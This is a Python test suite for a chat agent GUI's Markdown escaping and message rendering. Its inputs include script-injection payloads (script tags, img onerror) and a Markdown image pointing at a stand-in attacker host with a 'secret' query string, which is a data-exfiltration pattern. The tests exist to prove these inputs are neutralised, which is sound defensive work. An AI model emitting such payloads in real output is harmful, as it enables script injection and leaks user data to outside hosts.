"""chatagent.gui.render: escaping that keeps Markdown working, and the chatbot view of each kind of message."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from chatagent.gui.icons import icon
from chatagent.gui.render import (
    chat_message,
    code_block,
    escape_markdown,
    message_text,
    render_conversation,
    render_error,
    render_message,
    safe_name,
    speaker_badge,
)
from chatagent.schema import ContentItem, FunctionCall, Message
from chatagent.sessions.errors import SessionStoreError


def _html_tokens(markdown: str) -> list[str]:
    """Raw HTML that a CommonMark + GFM-tables renderer (markdown-it) would pass through to the page."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    found = []
    for token in md.parse(markdown):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type == "html_inline":
                found.append(child.content)
    return found


def test_html_outside_code_is_escaped() -> None:
    out = escape_markdown('Hi <script>alert(1)</script> and <img src=x onerror="alert(2)"> & more')
    assert "<" not in out
    assert out == 'Hi &lt;script>alert(1)&lt;/script> and &lt;img src=x onerror="alert(2)"> &amp; more'


def test_code_is_left_alone_so_it_shows_literally() -> None:
    text = "Use `a < b` here.\n\n```html\n<b>bold</b> & co\n```\n\nthen <i>not code</i>"
    assert _html_tokens(escape_markdown(text)) == []
    out = escape_markdown(text)
    assert "`a < b`" in out
    assert "```html\n<b>bold</b> & co\n```" in out
    assert out.endswith("then &lt;i>not code&lt;/i>")


def test_unclosed_fence_runs_to_the_end_and_unmatched_backticks_are_text() -> None:
    assert escape_markdown("```\n<x>") == "```\n<x>"
    assert escape_markdown("a ` b <x>") == "a ` b &lt;x>"
    assert escape_markdown("``a`<b>``") == "``a`<\u200bb>``"  # a span of two backticks closes only on two


def test_markdown_structure_survives() -> None:
    table = "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n> quote"
    assert escape_markdown(table) == table


@given(st.text(alphabet="ab<>&`~\\|\n *-#[]()!/=:", max_size=120))
def test_no_html_reaches_a_markdown_renderer(text: str) -> None:
    assert _html_tokens(escape_markdown(text)) == []


def _images(markdown: str) -> list[str]:
    """The image URLs a CommonMark renderer (markdown-it) would make the browser load."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable(["table"])
    return [c.attrs.get("src", "") for t in md.parse(markdown) for c in t.children or [] if c.type == "image"]


def test_images_become_links_so_the_page_loads_nothing_by_itself() -> None:
    text = "See ![chart](http://evil.example/?c=secret) and ![ref][r] `![x](http://e/c)`\n\n[r]: http://evil.example/r"
    assert len(_images(text)) == 2  # what an unescaped reply would load
    out = escape_markdown(text)
    assert _images(out) == []
    assert "[chart](http://evil.example/?c=secret)" in out  # still there, as a link
    assert escape_markdown("```\n![x](u)\n```") == "```\n![x](u)\n```"  # code shows literally


@given(st.text(alphabet="ab!`[]()<>:\n *\\u", max_size=120))
def test_no_image_reaches_a_markdown_renderer(text: str) -> None:
    assert _images(escape_markdown(text)) == []


def test_inline_code_keeps_its_text_but_cannot_open_a_tag() -> None:
    out = escape_markdown("Write `<div>` or `a < b`; [x](`c) <img src=x onerror=alert(1)> `")
    assert "`<\u200bdiv>`" in out and "`a < b`" in out
    assert _html_tokens(out) == []
    table = "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> y` | z |"
    assert _html_tokens(escape_markdown(table)) == []


def test_a_fence_with_backticks_in_its_info_string_is_not_a_fence() -> None:
    out = escape_markdown("```a`b\n<script>x</script>\n```")
    assert "&lt;script>" in out and _html_tokens(out) == []


def test_code_block_fence_is_longer_than_any_backtick_run() -> None:
    block = code_block("x ```` y")
    assert block.startswith("`````\n") and block.endswith("\n`````")


def test_names_in_titles_are_reduced_to_harmless_characters() -> None:
    assert safe_name('<img src=x onerror="alert(1)">') == "img srcx onerroralert1"
    assert safe_name("") == "?"


def test_assistant_reasoning_text_and_call_render_as_blocks() -> None:
    msg = Message(
        "assistant",
        "Let me <b>look</b>.",
        name="Bot",
        reasoning_content="I should <think>",
        function_call=FunctionCall("search", {"q": "x<y"}),
    )
    views = render_message(msg, show_name=True)
    assert [v.get("metadata", {}).get("title") for v in views] == [
        f"{icon('thinking')} Thinking",
        None,
        f"{icon('tool')} Bot → search",
    ]
    assert views[0]["metadata"]["status"] == "done"  # collapsed
    assert message_text(views[0]) == "I should &lt;think>"
    assert message_text(views[1]) == f"{speaker_badge('Bot')} **Bot**\n\nLet me &lt;b>look&lt;/b>."
    assert message_text(views[2]) == '```json\n{\n  "q": "x<y"\n}\n```'


def test_function_result_and_user_files() -> None:
    result = render_message(Message("function", "42 <ok>", name="calc"))
    assert result == [
        {
            "role": "assistant",
            "content": {"type": "text", "text": "```\n42 <ok>\n```"},
            "metadata": {"title": f"{icon('result')} Result of calc", "status": "done"},
        }
    ]
    user = render_message(Message("user", [ContentItem(text="read <this>"), ContentItem(file="/tmp/up/a&b.pdf")]))
    assert user == [chat_message("user", f"read &lt;this>\n\n{icon('file')} a&amp;b.pdf")]


def test_pending_input_marker_and_errors_are_readable() -> None:
    marker = Message(
        "assistant", "<!-- INTERRUPT: PENDING_USER_INPUT -->", name="Alice", extra={"pending_user_input": "Alice"}
    )
    assert render_message(marker) == [
        chat_message("assistant", f"{icon('waiting')} *Waiting for **Alice**: type the next message.*")
    ]
    from chatagent.errors import ModelServiceError

    err = render_error(ModelServiceError(429, "slow <down>"))
    assert message_text(err) == f"{icon('error')} **Error.** The model service failed (429): slow &lt;down>"
    assert "Traceback" not in message_text(render_error(RuntimeError("boom")))
    store = message_text(render_error(SessionStoreError("/home/alice/.cache/chatagent/sessions.db: disk I/O error")))
    assert "conversation store is unavailable" in store and "alice" not in store and "sessions.db" not in store


def test_conversation_skips_system_messages() -> None:
    views = render_conversation([Message("system", "secret"), Message("user", "hi"), Message("assistant", "hello")])
    assert [message_text(v) for v in views] == ["hi", "hello"]
